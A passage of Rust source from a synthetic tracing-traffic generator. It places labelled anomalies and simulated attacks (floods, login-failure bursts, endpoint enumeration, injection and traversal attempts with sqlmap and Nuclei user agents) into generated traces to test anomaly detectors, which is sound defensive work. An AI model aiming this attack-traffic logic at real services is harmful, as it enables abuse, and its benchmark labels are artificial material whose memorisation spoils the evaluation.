//! Labelled anomalies: where and when each is injected, how it changes the traffic or a trace, and the
//! label that says what a detector should find.
//!
//! Nothing is injected in the first [`WARMUP_SECONDS`] (detectors need a warm-up). Each subtype gets
//! 3–6 injections per 44 minutes of injectable time, spread at random. Injections that change counts
//! (throughput, silent services, error spikes, attacks) are placed so that they do not overlap in time
//! (with a margin) with another whose keys they touch: a drop of a route under a flood of the same
//! route would be neither. Per-trace injections (slow spans, N+1, fan-out, shapes) go to healthy
//! traces that nothing else touched (no incident, fault or attack), so each label's effect is its own.
//!
//! Targets are what the injection changed, read off the generated traces where possible: the slowed
//! spans and every ancestor that grew; the keys whose spans failed because of a fault; a route's keys
//! for throughput; the client for attacks. Side effects are the other detections an injection
//! legitimately causes (calls skipped behind a fault look like a drop; a flood is also a spike).
//!
//! Every injection is made clearly beyond the detectors' default rules (see the constants), and what
//! it legitimately causes besides (a flood also raises throughput; an N+1 parent is slow) is listed as
//! the label's side effects. Four more are placed last just past those rules, so that a detector that
//! goes deaf fails the gate too (`near_threshold`).

use super::labels::{SideEffect, Target};
use super::topology::{Access, Key, OpId, OpKind, RouteId, Step, SvcId, Topology};
use super::trace::{
    Builder, Caller, Ctx, Request, Role, SpanRec, Trace, ancestors_and_self, insert_delay,
};
use super::traffic::{NANOS_PER_SEC, Population, Traffic};
use detect_core::Subtype;
use rand::Rng;
use rand::rngs::StdRng;
use rand::seq::{IndexedRandom, SliceRandom};
use std::collections::{BTreeSet, VecDeque};

mod near_threshold;

/// No injection starts before this (event seconds from the start).
pub const WARMUP_SECONDS: u64 = 16 * 60;
/// Injectable minutes that give 3–6 of each subtype.
const REFERENCE_MINUTES: f64 = 44.0;
/// Margin kept between injections that touch the same keys.
const MARGIN: u64 = 120 * NANOS_PER_SEC;
/// Probability that a normal trace gets one slow span.
const SLOW_SPAN_PROB: f64 = 1.0 / 3000.0;
/// Injected latencies reach at least this z in the key's own distribution.
const MIN_INJECTED_Z: f64 = 4.0;
/// Traces a root must have had before a shape injection (the detector learns from 200).
const SHAPE_MIN_ROOT_TRACES: u32 = 250;

/// A label being built while traffic is generated.
#[derive(Debug, Clone)]
pub struct LabelDraft {
    pub subtype: Subtype,
    pub start: u64,
    pub end: u64,
    pub targets: BTreeSet<Target>,
    pub side_effects: BTreeSet<SideEffect>,
    pub traces: Vec<[u8; 16]>,
    pub description: String,
    /// Placed just past a detector's default rule (`near_threshold`).
    pub near_threshold: bool,
}

impl LabelDraft {
    fn new(subtype: Subtype, start: u64, end: u64, description: String) -> Self {
        LabelDraft {
            subtype,
            start,
            end,
            targets: BTreeSet::new(),
            side_effects: BTreeSet::new(),
            traces: Vec::new(),
            description,
            near_threshold: false,
        }
    }

    fn add_trace(&mut self, trace_id: [u8; 16]) {
        if self.traces.last() != Some(&trace_id) {
            self.traces.push(trace_id);
        }
    }

    fn key_target(&mut self, (service, operation): &Key) {
        self.targets.insert(Target {
            service: Some(service.clone()),
            operation: Some(operation.clone()),
            ..Target::default()
        });
    }

    fn side_effect(
        &mut self,
        subtype: Subtype,
        key: Option<&Key>,
        client: Option<&str>,
        trace: Option<[u8; 16]>,
    ) {
        self.side_effects.insert(SideEffect {
            anomaly_type: subtype.anomaly_type().as_str().to_owned(),
            subtype: subtype.as_str().to_owned(),
            service: key.map(|k| k.0.clone()),
            operation: key.map(|k| k.1.clone()),
            client: client.map(str::to_owned),
            trace_id: trace.map(hex::encode),
        });
    }
}

#[derive(Debug, Clone, Copy)]
enum WindowKind {
    LatencyIncident {
        op: OpId,
        factor: f64,
    },
    /// Like an incident, but labelled by key for the window, not by slowed span (`near_threshold`).
    LatencyShift {
        op: OpId,
        factor: f64,
    },
    ErrorSpike {
        op: OpId,
        prob: f64,
    },
    ThroughputSpike {
        route: RouteId,
        factor: f64,
    },
    ThroughputDrop {
        route: RouteId,
        factor: f64,
    },
    ServiceSilent {
        service: SvcId,
    },
}

#[derive(Debug, Clone)]
struct Windowed {
    kind: WindowKind,
    start: u64,
    end: u64,
    label: usize,
}

#[derive(Debug, Clone, Copy)]
enum TraceKind {
    NPlusOne { calls: usize },
    FanOut { calls: usize },
    Shape { operations: usize },
}

#[derive(Debug, Clone)]
struct TraceInjection {
    at: u64,
    kind: TraceKind,
}

/// What occupies keys for a while, for placement.
struct Footprint {
    start: u64,
    end: u64,
    primary: BTreeSet<String>,
    affected: BTreeSet<String>,
}

impl Footprint {
    fn conflicts(&self, other: &Footprint) -> bool {
        let overlap = self.start < other.end + MARGIN && other.start < self.end + MARGIN;
        overlap
            && (!self.primary.is_disjoint(&other.primary)
                || !self.primary.is_disjoint(&other.affected)
                || !self.affected.is_disjoint(&other.primary))
    }
}

fn tag((service, operation): &Key) -> String {
    format!("{service}|{operation}")
}

fn tags(keys: &BTreeSet<Key>) -> BTreeSet<String> {
    keys.iter().map(tag).collect()
}

pub struct Plan {
    pub labels: Vec<LabelDraft>,
    windowed: Vec<Windowed>,
    attacks: Vec<Request>,
    next_attack: usize,
    pending: VecDeque<TraceInjection>,
    footprints: Vec<Footprint>,
    warmup_end: u64,
    /// Injections that found no room (for the summary).
    pub unplaced: Vec<Subtype>,
    next_attacker: u32,
    used_users: BTreeSet<usize>,
    /// Indices into `windowed` of the near-threshold injections.
    near_threshold: Vec<usize>,
}

/// Expected calls per minute of each operation at the lowest point of the rate cycle.
pub fn op_rates(topo: &Topology, traffic: &Traffic) -> Vec<f64> {
    fn visit(topo: &Topology, op: OpId, weight: f64, acc: &mut [f64]) {
        acc[op] += weight;
        for step in topo.ops[op].stages.iter().flatten() {
            let when = if step.when == super::topology::When::LoggedIn {
                0.6
            } else {
                1.0
            };
            let mean = f64::from(step.count.0 + step.count.1) / 2.0;
            visit(topo, step.target, weight * step.prob * when * mean, acc);
        }
    }
    let mut acc = vec![0.0; topo.ops.len()];
    for (r, route) in topo.routes.iter().enumerate() {
        visit(topo, route.op, traffic.min_per_minute(r), &mut acc);
    }
    acc
}

fn uniform(rng: &mut StdRng, lo: f64, hi: f64) -> f64 {
    rng.random_range(lo..hi)
}

fn secs(s: f64) -> u64 {
    (s * NANOS_PER_SEC as f64) as u64
}

impl Plan {
    pub fn new(
        topo: &Topology,
        traffic: &Traffic,
        population: &Population,
        rng: &mut StdRng,
        epoch: u64,
        minutes: u64,
    ) -> Plan {
        let mut plan = Plan {
            labels: Vec::new(),
            windowed: Vec::new(),
            attacks: Vec::new(),
            next_attack: 0,
            pending: VecDeque::new(),
            footprints: Vec::new(),
            warmup_end: epoch + WARMUP_SECONDS * NANOS_PER_SEC,
            unplaced: Vec::new(),
            next_attacker: 10,
            used_users: BTreeSet::new(),
            near_threshold: Vec::new(),
        };
        let first = plan.warmup_end;
        let last = epoch + minutes * 60 * NANOS_PER_SEC;
        // Leave the last minute alone: its windows close at the end of the input.
        let Some(usable) = last.checked_sub(first + 60 * NANOS_PER_SEC) else {
            return plan;
        };
        let usable_minutes = usable as f64 / (60.0 * NANOS_PER_SEC as f64);
        if usable_minutes < 5.0 {
            return plan;
        }
        let limit = first + usable;
        let rates = op_rates(topo, traffic);
        let count = |rng: &mut StdRng| -> usize {
            let n = rng.random_range(3..=6) as f64 * usable_minutes / REFERENCE_MINUTES;
            (n.round() as usize).max(1)
        };
        // Most constraining first.
        for subtype in [
            Subtype::ServiceSilent,
            Subtype::ThroughputDrop,
            Subtype::ErrorRateSpike,
            Subtype::RequestFlood,
            Subtype::ThroughputSpike,
            Subtype::AuthFailureBurst,
            Subtype::EndpointEnumeration,
            Subtype::LatencySpike,
            Subtype::InjectionAttempt,
            Subtype::PathTraversal,
            Subtype::SensitiveRouteNewPrincipal,
            Subtype::NPlusOneQuery,
            Subtype::FanOut,
            Subtype::UnusualTraceShape,
        ] {
            for _ in 0..count(rng) {
                let placed = plan.place(
                    topo, traffic, population, &rates, rng, subtype, first, limit,
                );
                if !placed {
                    plan.unplaced.push(subtype);
                }
            }
        }
        // Last, so that they move none of the others.
        plan.place_near_threshold(topo, traffic, population, &rates, rng, first, limit);
        plan.attacks.sort_by_key(|r| r.start);
        let mut pending: Vec<TraceInjection> = plan.pending.drain(..).collect();
        pending.sort_by_key(|p| p.at);
        plan.pending = pending.into();
        plan
    }

    /// Tries to place one injection of `subtype` somewhere in `[first, limit)`.
    #[allow(clippy::too_many_arguments)]
    fn place(
        &mut self,
        topo: &Topology,
        traffic: &Traffic,
        population: &Population,
        rates: &[f64],
        rng: &mut StdRng,
        subtype: Subtype,
        first: u64,
        limit: u64,
    ) -> bool {
        self.place_with(
            topo,
            traffic,
            population,
            rng,
            subtype,
            (first, limit),
            |rng| Self::candidate(topo, traffic, rates, rng, subtype),
        )
    }

    /// Tries to place one injection of `subtype` drawn by `candidate` somewhere in `[first, limit)`.
    #[allow(clippy::too_many_arguments)]
    fn place_with(
        &mut self,
        topo: &Topology,
        traffic: &Traffic,
        population: &Population,
        rng: &mut StdRng,
        subtype: Subtype,
        (first, limit): (u64, u64),
        mut candidate: impl FnMut(&mut StdRng) -> Option<Placement>,
    ) -> bool {
        for _attempt in 0..400 {
            let Some((dur, primary, affected, kind)) = candidate(rng) else {
                return false;
            };
            if limit <= first + dur {
                return false;
            }
            let start = rng.random_range(first..limit - dur);
            let start = start - start % NANOS_PER_SEC;
            let footprint = Footprint {
                start,
                end: start + dur,
                primary,
                affected,
            };
            if self.footprints.iter().any(|f| f.conflicts(&footprint)) {
                continue;
            }
            self.footprints.push(footprint);
            self.commit(
                topo,
                traffic,
                population,
                rng,
                subtype,
                kind,
                start,
                start + dur,
            );
            return true;
        }
        false
    }

    /// A random candidate of `subtype`.
    fn candidate(
        topo: &Topology,
        traffic: &Traffic,
        rates: &[f64],
        rng: &mut StdRng,
        subtype: Subtype,
    ) -> Option<Placement> {
        let routes_with = |access: &[Access]| -> Vec<RouteId> {
            (0..topo.routes.len())
                .filter(|&r| access.contains(&topo.routes[r].access))
                .collect()
        };
        let route_tags = |r: RouteId| tags(&topo.route_keys[r]);
        let normal = [Access::Public, Access::User];
        Some(match subtype {
            // Window-level findings of real-traffic faults: not injected one by one here.
            Subtype::LatencyDegradation | Subtype::CallPathChange => return None,
            Subtype::ServiceSilent => {
                let services: Vec<SvcId> = (1..topo.services.len())
                    .filter(|&s| {
                        let per_minute: f64 = (0..topo.ops.len())
                            .filter(|&o| topo.ops[o].service == s && topo.ops[o].is_server())
                            .map(|o| rates[o])
                            .sum();
                        per_minute >= 40.0
                    })
                    .collect();
                let service = *services.choose(rng)?;
                let own: BTreeSet<Key> = (0..topo.ops.len())
                    .filter(|&o| topo.ops[o].service == service)
                    .map(|o| topo.key(service, o))
                    .collect();
                let affected = topo.keys_of_routes_touching(&own);
                let dur = secs(uniform(rng, 180.0, 300.0));
                (
                    dur,
                    tags(&own),
                    tags(&affected),
                    Candidate::Window(WindowKind::ServiceSilent { service }),
                )
            }
            Subtype::ThroughputDrop => {
                let routes: Vec<RouteId> = routes_with(&normal)
                    .into_iter()
                    .filter(|&r| traffic.min_per_minute(r) >= 60.0)
                    .collect();
                let route = *routes.choose(rng)?;
                let factor = uniform(rng, 0.05, 0.2);
                let dur = secs(uniform(rng, 180.0, 300.0));
                let key = topo.key(topo.gateway(), topo.routes[route].op);
                (
                    dur,
                    [tag(&key)].into(),
                    route_tags(route),
                    Candidate::Window(WindowKind::ThroughputDrop { route, factor }),
                )
            }
            Subtype::ThroughputSpike => {
                let routes: Vec<RouteId> = routes_with(&normal)
                    .into_iter()
                    .filter(|&r| traffic.min_per_minute(r) >= 15.0)
                    .collect();
                let route = *routes.choose(rng)?;
                let factor = uniform(rng, 4.0, 8.0);
                let key = topo.key(topo.gateway(), topo.routes[route].op);
                (
                    secs(180.0),
                    [tag(&key)].into(),
                    route_tags(route),
                    Candidate::Window(WindowKind::ThroughputSpike { route, factor }),
                )
            }
            Subtype::ErrorRateSpike => {
                let ops: Vec<OpId> = topo
                    .internal_servers()
                    .into_iter()
                    .filter(|&o| rates[o] >= 40.0)
                    .collect();
                let op = *ops.choose(rng)?;
                let prob = uniform(rng, 0.3, 0.6);
                let key = topo.key(topo.ops[op].service, op);
                let affected = topo.keys_of_routes_touching(&[key.clone()].into());
                let dur = secs(uniform(rng, 120.0, 240.0));
                (
                    dur,
                    [tag(&key)].into(),
                    tags(&affected),
                    Candidate::Window(WindowKind::ErrorSpike { op, prob }),
                )
            }
            Subtype::LatencySpike => {
                let ops: Vec<OpId> = (0..topo.ops.len())
                    .filter(|&o| {
                        let def = &topo.ops[o];
                        let eligible_kind =
                            def.is_db() || (def.is_server() && def.service != topo.gateway());
                        eligible_kind && def.sigma <= 0.4 && rates[o] >= 10.0
                    })
                    .collect();
                let op = *ops.choose(rng)?;
                let sigma = topo.ops[op].sigma;
                let factor = uniform(rng, 5.0, 15.0).max((5.0 * sigma).exp());
                let key = topo.key(topo.ops[op].service, op);
                let dur = secs(uniform(rng, 120.0, 240.0));
                (
                    dur,
                    [tag(&key)].into(),
                    [tag(&key)].into(),
                    Candidate::Window(WindowKind::LatencyIncident { op, factor }),
                )
            }
            Subtype::RequestFlood => {
                // A flood raises the counts of the public routes: it must not hide a drop or a
                // spike of one of them (other injections are not disturbed by more requests).
                let keys: BTreeSet<Key> = routes_with(&[Access::Public])
                    .into_iter()
                    .map(|r| topo.key(topo.gateway(), topo.routes[r].op))
                    .collect();
                (secs(60.0), BTreeSet::new(), tags(&keys), Candidate::Attack)
            }
            Subtype::AuthFailureBurst => {
                let route = traffic.login_route()?;
                (
                    secs(60.0),
                    BTreeSet::new(),
                    route_tags(route),
                    Candidate::Attack,
                )
            }
            Subtype::EndpointEnumeration => {
                let unmatched = routes_with(&[Access::Unmatched]);
                let keys: BTreeSet<Key> = unmatched
                    .iter()
                    .map(|&r| topo.key(topo.gateway(), topo.routes[r].op))
                    .collect();
                (secs(60.0), BTreeSet::new(), tags(&keys), Candidate::Attack)
            }
            Subtype::InjectionAttempt
            | Subtype::PathTraversal
            | Subtype::SensitiveRouteNewPrincipal => (
                secs(60.0),
                BTreeSet::new(),
                BTreeSet::new(),
                Candidate::Attack,
            ),
            Subtype::NPlusOneQuery => (
                0,
                BTreeSet::new(),
                BTreeSet::new(),
                Candidate::Trace(TraceKind::NPlusOne {
                    calls: rng.random_range(15..=60),
                }),
            ),
            Subtype::FanOut => (
                0,
                BTreeSet::new(),
                BTreeSet::new(),
                Candidate::Trace(TraceKind::FanOut {
                    calls: rng.random_range(40..=150),
                }),
            ),
            Subtype::UnusualTraceShape => (
                0,
                BTreeSet::new(),
                BTreeSet::new(),
                Candidate::Trace(TraceKind::Shape {
                    operations: rng.random_range(2..=4),
                }),
            ),
        })
    }

    #[allow(clippy::too_many_arguments)]
    fn commit(
        &mut self,
        topo: &Topology,
        traffic: &Traffic,
        population: &Population,
        rng: &mut StdRng,
        subtype: Subtype,
        candidate: Candidate,
        start: u64,
        end: u64,
    ) {
        match candidate {
            Candidate::Window(kind) => {
                let label = self.labels.len();
                let description = match kind {
                    WindowKind::LatencyIncident { op, factor }
                    | WindowKind::LatencyShift { op, factor } => {
                        let key = topo.key(topo.ops[op].service, op);
                        format!("{} {} is {factor:.1}× slower", key.0, key.1)
                    }
                    WindowKind::ErrorSpike { op, prob } => {
                        let key = topo.key(topo.ops[op].service, op);
                        format!(
                            "{} {} fails {:.0} % of its calls",
                            key.0,
                            key.1,
                            prob * 100.0
                        )
                    }
                    WindowKind::ThroughputSpike { route, factor }
                    | WindowKind::ThroughputDrop { route, factor } => {
                        let key = topo.key(topo.gateway(), topo.routes[route].op);
                        format!("route {} at {factor:.2}× its rate", key.1)
                    }
                    WindowKind::ServiceSilent { service } => {
                        format!(
                            "{} sends no spans and refuses calls",
                            topo.service_name(service)
                        )
                    }
                };
                let mut draft = LabelDraft::new(subtype, start, end, description);
                match kind {
                    WindowKind::ThroughputSpike { route, .. }
                    | WindowKind::ThroughputDrop { route, .. } => {
                        for key in &topo.route_keys[route] {
                            draft.key_target(key);
                        }
                    }
                    WindowKind::ServiceSilent { service } => {
                        draft.targets.insert(Target {
                            service: Some(topo.service_name(service).to_owned()),
                            ..Target::default()
                        });
                    }
                    WindowKind::ErrorSpike { op, .. } | WindowKind::LatencyShift { op, .. } => {
                        // The operation and its callers' client spans; for errors, ancestors that
                        // fail with it are added as the traces show them.
                        draft.key_target(&topo.key(topo.ops[op].service, op));
                        for caller in &topo.ops {
                            if caller.stages.iter().flatten().any(|s| s.target == op) {
                                draft.key_target(&topo.key(caller.service, op));
                            }
                        }
                    }
                    WindowKind::LatencyIncident { .. } => {}
                }
                self.labels.push(draft);
                self.windowed.push(Windowed {
                    kind,
                    start,
                    end,
                    label,
                });
            }
            Candidate::Attack => {
                let label = self.labels.len();
                let requests = self.attack(topo, traffic, population, rng, subtype, start, label);
                let client = requests.first().map(|r| r.caller.ip.clone());
                let description = format!(
                    "{} requests from {}",
                    requests.len(),
                    client.as_deref().unwrap_or("?")
                );
                let mut draft = LabelDraft::new(subtype, start, end, description);
                // Sensitive-route labels name the routes too; they are added as the traces come.
                if let Some(c) = client
                    && subtype != Subtype::SensitiveRouteNewPrincipal
                {
                    draft.targets.insert(Target {
                        service: Some(topo.service_name(topo.gateway()).to_owned()),
                        client: Some(c),
                        ..Target::default()
                    });
                }
                self.labels.push(draft);
                self.attacks.extend(requests);
            }
            Candidate::Trace(kind) => {
                let at = start;
                self.pending.push_back(TraceInjection { at, kind });
            }
        }
    }

    fn attacker_ip(&mut self) -> String {
        self.next_attacker += 1;
        format!("192.0.2.{}", self.next_attacker)
    }

    /// The requests of one attack, each tagged with `label`.
    #[allow(clippy::too_many_arguments)]
    fn attack(
        &mut self,
        topo: &Topology,
        traffic: &Traffic,
        population: &Population,
        rng: &mut StdRng,
        subtype: Subtype,
        start: u64,
        label: usize,
    ) -> Vec<Request> {
        let route_of = |access: Access| -> Vec<RouteId> {
            (0..topo.routes.len())
                .filter(|&r| topo.routes[r].access == access)
                .collect()
        };
        let unmatched = route_of(Access::Unmatched)[0];
        let product_route = (0..topo.routes.len())
            .find(|&r| {
                matches!(
                    topo.ops[topo.routes[r].op].kind,
                    OpKind::Server {
                        route: Some("/api/products/{id}"),
                        ..
                    }
                )
            })
            .expect("the product route");
        let times = |rng: &mut StdRng, n: usize, span_secs: f64| -> Vec<u64> {
            let mut t: Vec<u64> = (0..n)
                .map(|_| start + secs(uniform(rng, 0.0, span_secs)))
                .collect();
            t.sort_unstable();
            t
        };
        let request = |rng: &mut StdRng, at: u64, route: RouteId, caller: &Caller| Request {
            start: at,
            route,
            caller: caller.clone(),
            ctx: Ctx::random(rng, caller.user.clone()),
            label: Some(label),
        };
        let attacker = |ip: String, ua: &'static str| Caller {
            ip,
            user: None,
            user_agent: ua,
        };
        let mut out = Vec::new();
        match subtype {
            Subtype::AuthFailureBurst => {
                let caller = attacker(self.attacker_ip(), "okhttp/4.12.0");
                let n = rng.random_range(40..=200);
                let successes = (n as f64 * uniform(rng, 0.0, 0.08)) as usize;
                let route = traffic.login_route().expect("a login route");
                for (k, at) in times(rng, n, 60.0).into_iter().enumerate() {
                    let mut r = request(rng, at, route, &caller);
                    r.ctx.bad_password = k >= successes;
                    out.push(r);
                }
                out.shuffle(rng);
                // Keep the successes spread but the times ordered.
                let mut starts: Vec<u64> = out.iter().map(|r| r.start).collect();
                starts.sort_unstable();
                for (r, at) in out.iter_mut().zip(starts) {
                    r.start = at;
                }
            }
            Subtype::EndpointEnumeration => {
                let caller = attacker(
                    self.attacker_ip(),
                    "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
                );
                let n = rng.random_range(60..=200);
                let paths = probe_paths(rng, n);
                for (k, at) in times(rng, n, 60.0).into_iter().enumerate() {
                    let mut r = request(rng, at, unmatched, &caller);
                    let path = paths[k].clone();
                    if path.starts_with("/.git") && k % 2 == 0 {
                        r.ctx.unmatched_status = Some(403);
                    }
                    r.ctx.path_override = Some(path);
                    out.push(r);
                }
            }
            Subtype::RequestFlood => {
                let caller = attacker(self.attacker_ip(), "python-requests/2.32.3");
                let n = rng.random_range(800..=3000);
                let routes = route_of(Access::Public);
                let weights: Vec<f64> = routes.iter().map(|&r| traffic.shares[r]).collect();
                let pick = rand::distr::weighted::WeightedIndex::new(&weights).expect("weights");
                for at in times(rng, n, 60.0) {
                    let route = routes[rand::distr::Distribution::sample(&pick, rng)];
                    out.push(request(rng, at, route, &caller));
                }
            }
            Subtype::InjectionAttempt => {
                let caller = attacker(
                    self.attacker_ip(),
                    "sqlmap/1.8.11#stable (https://sqlmap.org)",
                );
                let n = rng.random_range(1..=5);
                for at in times(rng, n, 40.0) {
                    let payload = INJECTIONS[rng.random_range(0..INJECTIONS.len())];
                    let mut r = request(rng, at, product_route, &caller);
                    r.ctx.path_override = Some(format!("/api/products/{payload}"));
                    r.ctx.bad_request = true;
                    out.push(r);
                }
            }
            Subtype::PathTraversal => {
                let caller = attacker(self.attacker_ip(), "curl/8.5.0");
                let n = rng.random_range(1..=5);
                for at in times(rng, n, 40.0) {
                    let mut r = request(rng, at, unmatched, &caller);
                    r.ctx.path_override =
                        Some(TRAVERSALS[rng.random_range(0..TRAVERSALS.len())].to_owned());
                    r.ctx.unmatched_status = Some(if rng.random_bool(0.5) { 400 } else { 404 });
                    out.push(r);
                }
            }
            Subtype::SensitiveRouteNewPrincipal => {
                // A normal logged-in user, never seen on admin routes, tries one to three of them.
                let candidates: Vec<usize> = population
                    .logged_in
                    .iter()
                    .copied()
                    .filter(|i| !self.used_users.contains(i))
                    .collect();
                let Some(&i) = candidates.choose(rng) else {
                    return out;
                };
                self.used_users.insert(i);
                let caller = population.clients[i].caller();
                let mut admin = route_of(Access::Admin);
                admin.shuffle(rng);
                let n = rng.random_range(1..=3);
                let forbidden = rng.random_bool(0.5);
                for (k, at) in times(rng, n, 30.0).into_iter().enumerate() {
                    let mut r = request(rng, at, admin[k], &caller);
                    r.ctx.forbidden = forbidden;
                    out.push(r);
                }
            }
            _ => unreachable!("not an attack"),
        }
        out
    }

    /// Route rate multiplier at `t` (throughput injections).
    pub fn multiplier(&self, route: RouteId, t: u64) -> f64 {
        self.windowed
            .iter()
            .filter(|w| w.start <= t && t < w.end)
            .map(|w| match w.kind {
                WindowKind::ThroughputSpike { route: r, factor }
                | WindowKind::ThroughputDrop { route: r, factor }
                    if r == route =>
                {
                    factor
                }
                _ => 1.0,
            })
            .product()
    }

    /// Faults active at `t`.
    pub fn faults(&self, t: u64) -> super::trace::Faults {
        let mut faults = super::trace::Faults::default();
        for w in self.windowed.iter().filter(|w| w.start <= t && t < w.end) {
            match w.kind {
                WindowKind::ErrorSpike { op, prob } => faults.failing.push((op, prob, w.label)),
                WindowKind::ServiceSilent { service } => faults.silent.push((service, w.label)),
                _ => {}
            }
        }
        faults
    }

    /// Attack requests starting before `before`, in order.
    pub fn attacks_before(&mut self, before: u64) -> &[Request] {
        let from = self.next_attack;
        while self.next_attack < self.attacks.len() && self.attacks[self.next_attack].start < before
        {
            self.next_attack += 1;
        }
        &self.attacks[from..self.next_attack]
    }

    /// Applies per-trace injections to a freshly built trace and records what the trace tells the
    /// labels. `root_traces[route]` counts the traces of each root so far.
    pub fn after_build(&mut self, b: &mut Builder, trace: &mut Trace, root_traces: &[u32]) {
        let topo = b.topo;
        let t = trace.spans[0].start;
        let mut injected = !trace.labels.is_empty();
        // Latency incidents and shifts: every span of the key is slower.
        let incidents: Vec<(OpId, f64, usize, bool)> = self
            .windowed
            .iter()
            .filter(|w| w.start <= t && t < w.end)
            .filter_map(|w| match w.kind {
                WindowKind::LatencyIncident { op, factor } => Some((op, factor, w.label, false)),
                WindowKind::LatencyShift { op, factor } => Some((op, factor, w.label, true)),
                _ => None,
            })
            .collect();
        for (op, factor, label, shift) in incidents {
            for idx in 0..trace.spans.len() {
                let span = &trace.spans[idx];
                if span.op != op || !matches!(span.role, Role::Server | Role::Db) || span.injected {
                    continue;
                }
                let delta = ((factor - 1.0) * span.dur as f64) as u64;
                let at = span.end();
                insert_delay(trace, idx, at, delta);
                if shift {
                    self.shifted(topo, trace, idx, label);
                } else {
                    self.slowed(topo, trace, idx, label);
                }
                injected = true;
            }
        }
        let healthy = trace.spans[0].code.is_some_and(|c| c < 400)
            && trace
                .spans
                .iter()
                .all(|s| s.fault.is_none() && s.error.is_none());
        // A trace already slowed by an incident, failed by a fault or sent by an attacker gets nothing
        // more, so that every label's effect is its own.
        if !injected && healthy && t >= self.warmup_end {
            if self.pending.front().is_some_and(|p| p.at <= t) {
                let kind = self.pending[0].kind;
                if self.apply_trace_injection(b, trace, kind, root_traces) {
                    self.pending.pop_front();
                }
            } else if b.rng.random_bool(SLOW_SPAN_PROB) {
                self.slow_span(b, trace);
            }
        }
        self.record(topo, trace);
    }

    /// Adds the slowed span `idx` and its (grown) ancestors to `label`.
    fn slowed(&mut self, topo: &Topology, trace: &Trace, idx: usize, label: usize) {
        let draft = &mut self.labels[label];
        for i in ancestors_and_self(&trace.spans, idx) {
            let span = &trace.spans[i];
            draft.targets.insert(Target {
                service: Some(topo.service_name(span.service).to_owned()),
                operation: Some(topo.ops[span.op].name.clone()),
                client: None,
                trace_id: Some(hex::encode(trace.trace_id)),
                span_id: Some(hex::encode(span.span_id)),
            });
        }
        draft.add_trace(trace.trace_id);
    }

    /// One random non-root span's own time ×(8–40), at least up to z = 4 of its key.
    fn slow_span(&mut self, b: &mut Builder, trace: &mut Trace) {
        let topo = b.topo;
        if trace.spans.len() < 2 {
            return;
        }
        let idx = b.rng.random_range(1..trace.spans.len());
        let span = &trace.spans[idx];
        if span.modified || span.injected {
            return;
        }
        let (median_ms, sigma) = topo.ln_params(span.op, span.role == Role::Client);
        let own = own_time(&trace.spans, idx);
        let factor = uniform(b.rng, 8.0, 40.0);
        let needed = median_ms * 1e6 * (MIN_INJECTED_Z * sigma).exp() - span.dur as f64;
        let delta = ((factor - 1.0) * own as f64).max(needed).max(1e6) as u64;
        let key = topo.key(span.service, span.op);
        let at = span.end();
        let description = format!(
            "one {} {} span's own time {factor:.0}× longer (+{:.1} ms)",
            key.0,
            key.1,
            delta as f64 / 1e6
        );
        insert_delay(trace, idx, at, delta);
        let root = &trace.spans[0];
        let label = self.labels.len();
        self.labels.push(LabelDraft::new(
            Subtype::LatencySpike,
            root.start,
            root.end(),
            description,
        ));
        self.slowed(topo, trace, idx, label);
    }

    fn apply_trace_injection(
        &mut self,
        b: &mut Builder,
        trace: &mut Trace,
        kind: TraceKind,
        root_traces: &[u32],
    ) -> bool {
        let topo = b.topo;
        let servers: Vec<usize> = (1..trace.spans.len())
            .filter(|&i| trace.spans[i].role == Role::Server)
            .collect();
        let has_child = |trace: &Trace, parent: usize, op: OpId| {
            trace
                .spans
                .iter()
                .any(|s| s.parent == Some(parent) && s.op == op)
        };
        let (parent, steps, batch, vary, subtype, description): (
            usize,
            Vec<Step>,
            usize,
            bool,
            Subtype,
            String,
        ) = match kind {
            TraceKind::NPlusOne { calls } => {
                let candidates: Vec<(usize, Step)> = servers
                    .iter()
                    .filter_map(|&i| {
                        let op = &topo.ops[trace.spans[i].op];
                        op.stages
                            .iter()
                            .flatten()
                            .find(|s| s.statement.is_some() && has_child(trace, i, s.target))
                            .map(|s| (i, s.clone()))
                    })
                    .collect();
                let Some((parent, step)) = candidates.choose(b.rng).cloned() else {
                    return false;
                };
                let db = topo.key(trace.spans[parent].service, step.target);
                let description = format!(
                    "{calls} calls of `{}` ({}) in one request",
                    step.statement.unwrap_or(""),
                    db.1
                );
                (
                    parent,
                    vec![step; calls],
                    1,
                    true,
                    Subtype::NPlusOneQuery,
                    description,
                )
            }
            TraceKind::FanOut { calls } => {
                let candidates: Vec<(usize, Step)> = servers
                    .iter()
                    .filter_map(|&i| {
                        let op = &topo.ops[trace.spans[i].op];
                        op.stages
                            .iter()
                            .flatten()
                            .find(|s| {
                                let target = &topo.ops[s.target];
                                let leafish = target.is_server()
                                    && target
                                        .stages
                                        .iter()
                                        .flatten()
                                        .all(|c| !topo.ops[c.target].is_server());
                                leafish && has_child(trace, i, s.target)
                            })
                            .map(|s| (i, s.clone()))
                    })
                    .collect();
                let Some((parent, step)) = candidates.choose(b.rng).cloned() else {
                    return false;
                };
                let description = format!(
                    "{calls} calls of {} in one request, 10 at a time",
                    topo.ops[step.target].name
                );
                (
                    parent,
                    vec![step; calls],
                    10,
                    true,
                    Subtype::FanOut,
                    description,
                )
            }
            TraceKind::Shape { operations } => {
                if root_traces[trace.route] < SHAPE_MIN_ROOT_TRACES {
                    return false;
                }
                let Some(&parent) = servers.first() else {
                    return false;
                };
                let known = &topo.route_keys[trace.route];
                let caller = trace.spans[parent].service;
                let mut fresh: Vec<OpId> = topo
                    .internal_servers()
                    .into_iter()
                    .filter(|&o| {
                        let step = Step {
                            target: o,
                            prob: 1.0,
                            count: (1, 1),
                            on_error: super::topology::OnError::Degrade,
                            when: super::topology::When::Always,
                            statement: None,
                        };
                        topo.ops[o].service != caller
                            && topo.step_keys(caller, &step).is_disjoint(known)
                    })
                    .collect();
                if fresh.len() < operations {
                    return false;
                }
                fresh.shuffle(b.rng);
                let steps: Vec<Step> = fresh[..operations]
                    .iter()
                    .map(|&o| Step {
                        target: o,
                        prob: 1.0,
                        count: (1, 1),
                        on_error: super::topology::OnError::Degrade,
                        when: super::topology::When::Always,
                        statement: None,
                    })
                    .collect();
                let names: Vec<String> = steps
                    .iter()
                    .map(|s| topo.key(topo.ops[s.target].service, s.target).1)
                    .collect();
                let description = format!(
                    "{} calls {} never used under this route",
                    topo.key(caller, trace.spans[parent].op).1,
                    names.join(", ")
                );
                (
                    parent,
                    steps,
                    1,
                    false,
                    Subtype::UnusualTraceShape,
                    description,
                )
            }
        };
